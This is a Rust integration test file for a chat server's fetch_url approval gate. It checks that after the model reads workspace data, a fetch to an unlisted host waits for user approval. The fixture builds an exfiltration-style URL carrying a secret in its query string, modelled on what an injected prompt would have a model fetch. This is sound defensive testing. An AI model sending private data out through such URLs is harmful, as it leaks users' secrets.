//! Issue 21, item 12: once a reply's model has seen workspace or document
//! data, a `fetch_url` to a host outside `tools.fetch.allow_hosts` waits for
//! the user's approval (a URL can carry that data out). Over real HTTP, with
//! the mock upstream scripting the calls and a local web site counting the
//! requests it gets.

mod support;

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::Router;
use chatd::config::Config;
use chatd::domain::Approval;
use chatd::tools::{FetchUrl, Tool};
use serde_json::{Value, json};
use support::TestApp;
use support::mock::{self, MockUpstream};
use support::sse::{SseEvent, checked, next, tool_result as result};
use support::tools::registry_with;

const PROJECT: &str = "proj-x";
const SECRET: &str = "TOPSECRET-42";

/// chatd with the workspace tools and `fetch_url`, a project workspace
/// holding `notes.txt` (with [`SECRET`]), and a web site on 127.0.0.1.
struct Fixture {
    upstream: MockUpstream,
    app: TestApp,
    _root: tempfile::TempDir,
    site_port: u16,
    /// Requests the site received.
    hits: Arc<AtomicUsize>,
}

impl Fixture {
    async fn start(tweak: impl FnOnce(&mut Config)) -> Self {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind site");
        let site_port = listener.local_addr().expect("site addr").port();
        let hits = Arc::new(AtomicUsize::new(0));
        let counter = hits.clone();
        let site = Router::new().fallback(move || {
            counter.fetch_add(1, Ordering::SeqCst);
            async { "fetched page" }
        });
        tokio::spawn(async move {
            let _ = axum::serve(listener, site).await;
        });
        let root = tempfile::tempdir().expect("tempdir");
        std::fs::create_dir_all(root.path().join(PROJECT)).expect("mkdir workspace");
        std::fs::write(root.path().join(PROJECT).join("notes.txt"), SECRET).expect("write notes");
        let mut tools: Vec<Arc<dyn Tool>> = chatd::tools::workspace_tools();
        tools.push(Arc::new(FetchUrl));
        let upstream = MockUpstream::start().await;
        let root_path = root.path().to_path_buf();
        let app = TestApp::start_with(
            &upstream.base_url,
            move |c| {
                c.tools.workspace_root = root_path;
                tweak(c);
            },
            registry_with(tools),
        )
        .await;
        Self {
            upstream,
            app,
            _root: root,
            site_port,
            hits,
        }
    }

    /// `http://<host>:<site port>/collect?d=<SECRET>`: what an injected
    /// prompt would have the model fetch.
    fn leak_url(&self, host: &str) -> String {
        format!("http://{host}:{}/collect?d={SECRET}", self.site_port)
    }

    /// Scripts one reply: each round's calls `(id, name, arguments)`, then
    /// the answer "ok".
    fn script(&self, rounds: &[&[(&str, &str, Value)]]) {
        mock::push_rounds(&self.upstream, rounds);
    }

    /// Sends `body` (in [`PROJECT`]); reads the events up to the first
    /// `tool_approval` (answered with `approved`, then read to the end) or
    /// to the end. Returns the checked events and the approval's data.
    async fn reply(&self, mut body: Value, approved: bool) -> (Vec<SseEvent>, Option<Value>) {
        body["project_id"] = json!(PROJECT);
        let mut stream = self.app.stream_chat(body).await;
        let mut events = Vec::new();
        let mut approval = None;
        loop {
            let event = next(&mut stream).await;
            let terminal = event.event == "done" || event.event == "error";
            if approval.is_none() && event.data["type"] == "tool_approval" {
                approval = Some(event.data.clone());
                assert_eq!(
                    self.hits.load(Ordering::SeqCst),
                    0,
                    "nothing is fetched while the call waits"
                );
                let message_id = events.first().map(SseEvent::message_id).expect("start first");
                let id_ref = event.data["id_ref"].clone();
                let (status, answer) = self
                    .app
                    .approve(&message_id, json!({"tool_call_id": id_ref, "approved": approved}))
                    .await;
                assert_eq!(status, 200, "{answer}");
            }
            events.push(event);
            if terminal {
                break;
            }
        }
        checked(&events);
        assert_eq!(events.last().map(|e| e.event.as_str()), Some("done"), "{events:#?}");
        (events, approval)
    }
}

/// The reason a `tool_approval` step gives for a fetch of `host`.
fn reason(host: &str) -> String {
    format!(
        "this reply has read workspace or document data, and the request to {host} could carry it out; {host} is \
         not in tools.fetch.allow_hosts"
    )
}

fn read_notes() -> (&'static str, &'static str, Value) {
    ("r1", "read_file", json!({"path": "notes.txt"}))
}

#[tokio::test]
async fn a_fetch_after_a_read_waits_for_approval_and_a_denial_sends_nothing() {
    let f = Fixture::start(|_| {}).await;
    let url = f.leak_url("localhost");
    f.script(&[&[read_notes()], &[("f1", "fetch_url", json!({ "url": url }))]]);
    let (events, approval) = f.reply(json!({"message": "summarize my notes"}), false).await;
    assert_eq!(result(&events, "r1"), (SECRET.to_string(), true));
    let mut approval = approval.expect("the fetch asks");
    approval["id"] = json!("step");
    approval["index"] = json!(0);
    assert_eq!(
        approval,
        json!({"id": "step", "index": 0, "type": "tool_approval", "id_ref": "f1", "name": "fetch_url",
               "arguments": json!({ "url": url }).to_string(), "reason": reason("localhost")})
    );
    assert_eq!(
        result(&events, "f1"),
        (
            "Error: the user declined to run this tool call. Do not call it again unless asked.".to_string(),
            false
        )
    );
    assert_eq!(f.hits.load(Ordering::SeqCst), 0, "the site got no request");

    // The stored reply keeps the approval step and its reason.
    let row = f.app.wait_final(&events[0].message_id()).await;
    let stored = row["steps"]
        .as_array()
        .expect("steps")
        .iter()
        .find(|s| s["type"] == "tool_approval")
        .expect("stored approval step")
        .clone();
    assert_eq!(stored["reason"], reason("localhost"));
}

#[tokio::test]
async fn an_allowed_host_is_fetched_after_a_read_without_asking() {
    let f = Fixture::start(|c| c.tools.fetch.allow_hosts = vec!["127.0.0.1".into()]).await;
    let url = f.leak_url("127.0.0.1");
    f.script(&[&[read_notes()], &[("f1", "fetch_url", json!({ "url": url }))]]);
    let (events, approval) = f.reply(json!({"message": "go"}), true).await;
    assert_eq!(approval, None);
    let (content, success) = result(&events, "f1");
    assert!(success && content.ends_with("fetched page"), "{content}");
    assert_eq!(f.hits.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn without_a_private_read_a_fetch_runs_without_asking() {
    let f = Fixture::start(|_| {}).await;
    let url = f.leak_url("localhost");
    // A read that failed showed the model nothing of the workspace; a
    // calculator result is not private either.
    f.script(&[
        &[
            ("r0", "read_file", json!({"path": "missing.txt"})),
            ("c0", "calculator", json!({"expression": "1+1"})),
        ],
        &[("f1", "fetch_url", json!({ "url": url }))],
    ]);
    let (events, approval) = f.reply(json!({"message": "go"}), true).await;
    assert_eq!(approval, None);
    assert!(!result(&events, "r0").1);
    // It ran: the SSRF guard (not an approval) refused the loopback host.
    let (content, success) = result(&events, "f1");
    assert!(!success && content.contains("loopback"), "{content}");
    assert_eq!(f.hits.load(Ordering::SeqCst), 0);
}

#[tokio::test]
async fn the_setting_off_or_an_explicit_auto_policy_restores_the_old_behaviour() {
    let tweaks: [fn(&mut Config); 2] = [
        |c| c.tools.fetch.approve_after_private_read = false,
        |c| {
            c.tools.approval.insert("fetch_url".into(), Approval::Auto);
        },
    ];
    for tweak in tweaks {
        let f = Fixture::start(tweak).await;
        let url = f.leak_url("localhost");
        f.script(&[&[read_notes()], &[("f1", "fetch_url", json!({ "url": url }))]]);
        let (events, approval) = f.reply(json!({"message": "go"}), true).await;
        assert_eq!(approval, None);
        let (content, success) = result(&events, "f1");
        assert!(
            !success && content.contains("loopback"),
            "ran and was refused by the guard: {content}"
        );
    }

    // An explicit "ask" asks every time, read or not, with no reason.
    let f = Fixture::start(|c| {
        c.tools.approval.insert("fetch_url".into(), Approval::Ask);
    })
    .await;
    let url = f.leak_url("localhost");
    f.script(&[&[("f1", "fetch_url", json!({ "url": url }))]]);
    let (_, approval) = f.reply(json!({"message": "go"}), false).await;
    let approval = approval.expect("asks");
    assert_eq!(approval.get("reason"), None);
}

#[tokio::test]
async fn a_read_in_an_earlier_turn_makes_a_later_fetch_ask() {
    let f = Fixture::start(|_| {}).await;
    f.script(&[&[read_notes()]]);
    let (events, approval) = f.reply(json!({"message": "read my notes"}), true).await;
    assert_eq!(approval, None);
    let conversation_id = events[0].data["conversation_id"].clone();

    // The next turn's model sees the earlier result in its history.
    let url = f.leak_url("localhost");
    f.script(&[&[("f1", "fetch_url", json!({ "url": url }))]]);
    let (events, approval) = f
        .reply(
            json!({"message": "now fetch", "conversation_id": conversation_id}),
            false,
        )
        .await;
    assert_eq!(approval.expect("asks")["reason"], reason("localhost"));
    assert!(!result(&events, "f1").1);

    // A conversation without a private read does not ask.
    f.script(&[&[("f2", "fetch_url", json!({ "url": url }))]]);
    let (_, approval) = f.reply(json!({"message": "fetch"}), true).await;
    assert_eq!(approval, None);
    assert_eq!(f.hits.load(Ordering::SeqCst), 0);
}
